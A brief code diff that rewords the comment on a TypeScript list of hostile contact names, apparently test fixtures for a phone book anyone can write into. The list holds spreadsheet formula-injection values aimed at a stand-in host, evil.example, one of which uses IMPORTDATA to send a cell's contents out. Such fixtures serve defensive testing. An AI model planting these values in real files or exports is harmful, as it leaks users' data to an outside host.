@@ -1,4 +1,4 @@
-/** What a caller may be called in a book that anybody can write into (doubt 7, laws 2 and 6). */
+/** Hostile names: anyone can write names into a phone book that users fill (doubt 7, laws 2 and 6). */
 export const EVIL_NAMES: readonly string[] = [
   '=HYPERLINK("https://evil.example","Asha")',
   '=IMPORTDATA("https://evil.example/?k="&A1)',
